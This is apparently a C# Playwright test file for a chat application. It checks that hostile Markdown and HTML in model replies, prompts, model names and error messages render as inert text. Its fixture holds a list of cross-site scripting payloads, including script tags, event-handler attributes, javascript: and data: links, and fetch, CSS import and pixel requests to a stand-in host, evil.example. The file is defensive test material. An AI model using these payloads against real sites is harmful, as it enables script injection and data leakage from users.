using ChatStudio.Tests.Support;
using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace ChatStudio.Tests.Browser;

[Collection(BrowserSuite.Name)]
[Trait("Category", "Browser")]
public sealed class HostileContentJourneys(Chromium chromium)
{
    // Every line tries to run a script, to send something out or to leave the page. The fixture fails on any request off the origin.
    private const string Hostile =
        """
        <script>window.pwned = 1; fetch('https://evil.example/')</script>

        <img src=x onerror="window.pwned = 2"> <svg onload="window.pwned = 3"><circle r="1"/></svg>

        <iframe src="javascript:window.parent.pwned = 4"></iframe><style>@import 'https://evil.example/x.css';</style>

        [press me](javascript:window.pwned=5) and [me](data:text/html,<script>window.pwned=6</script>) and [me too](vbscript:x) and [tabs](java&#x09;script:window.pwned=7)

        ![pixel](https://evil.example/pixel.png?secret=1) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) ![js](javascript:window.pwned=8)

        <javascript:window.pwned=9> and [ref][evil] {onclick="window.pwned=10"} # heading {#composer onmouseover=window.pwned=11}

        [evil]: javascript:window.pwned=12 "title"

        ```html" onload="window.pwned=13
        <script>window.pwned = 14</script>
        ```

        | <b onmouseover="window.pwned=15">cell</b> | `</td><script>window.pwned=16</script>` |
        |---|---|
        | a | b |

        $$\href{javascript:window.pwned=17}{x}$$

        The end.
        """;

    [Fact]
    public async Task Hostile_Markdown_runs_nothing_and_leaves_no_request()
    {
        var pieces = Hostile.Chunk(7).Select(piece => new string(piece)).ToArray();
        await using var provider = await ProviderServer.StartAsync(ProviderReply.Chat(pieces));
        await using var app = StudioApp.Start(ProviderSettings.For(provider));
        await chromium.VisitAsync(app, "/", async page =>
        {
            var chat = new ChatScreen(app, page);
            await chat.SendAsync("Attack <img src=x onerror=\"window.pwned = 18\"> & [x](javascript:window.pwned=19)");
            var answer = await chat.FinishedAsync();
            await Expect(ChatScreen.Prose(answer)).ToContainTextAsync("The end.");
            await page.ShootAsync("hostile");

            foreach (var link in await answer.GetByRole(AriaRole.Link).AllAsync())
            {
                Assert.Matches("^(https?|mailto):|^#|^/", await link.GetAttributeAsync("href") ?? "#");
            }

            await answer.EvaluateAsync(
                """
                root => root.querySelectorAll('*').forEach(element => {
                  element.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
                  if (!element.closest('a[href], button')) element.dispatchEvent(new MouseEvent('click', { bubbles: true }));
                })
                """);
            Assert.Null(await page.Page.EvaluateAsync<int?>("window.pwned ?? null"));
            Assert.Equal(0, await ChatScreen.Prose(answer).Locator("script, iframe, object, embed, style, img, [onerror], [onload], [onclick], [onmouseover]").CountAsync());
            Assert.Equal(0, await page.Page.Locator("script[src*='evil'], img[src*='evil'], link[href*='evil']").CountAsync());
            await Expect(answer).ToContainTextAsync("<script>window.pwned = 1;");
            await Expect(chat.Prompts.First).ToContainTextAsync("<img src=x onerror=");
        });
    }

    [Fact]
    public async Task Hostile_model_names_and_error_texts_are_text()
    {
        const string Name = "<img src=x onerror=window.pwned=1>";
        await using var provider = await ProviderServer.StartAsync(ProviderReply.Error(400, "<script>window.pwned = 2</script>", "<b>code</b>"));
        provider.Models = ProviderReply.Json(200, $$"""{"object":"list","data":[{"id":"{{Name}}","object":"model"},{"id":"test-model","object":"model"}]}""");
        await using var app = StudioApp.Start(ProviderSettings.For(provider));
        await chromium.VisitAsync(app, "/", async page =>
        {
            var chat = new ChatScreen(app, page);
            await page.Page.GetByRole(AriaRole.Button, new() { NameRegex = new System.Text.RegularExpressions.Regex("^Model:\\s*test-model") }).ClickAsync();
            await page.Page.GetByRole(AriaRole.Option).Filter(new() { HasText = Name }).First.ClickAsync();
            await chat.SendAsync("Hello");
            await chat.FinishedAsync();
            await chat.Notice.GetByText("Details", new() { Exact = true }).ClickAsync();

            await Expect(chat.Notice).ToContainTextAsync("<script>window.pwned = 2</script>");
            await Expect(chat.Answers.First).ToContainTextAsync(Name);
            Assert.Null(await page.Page.EvaluateAsync<int?>("window.pwned ?? null"));
        });
    }
}
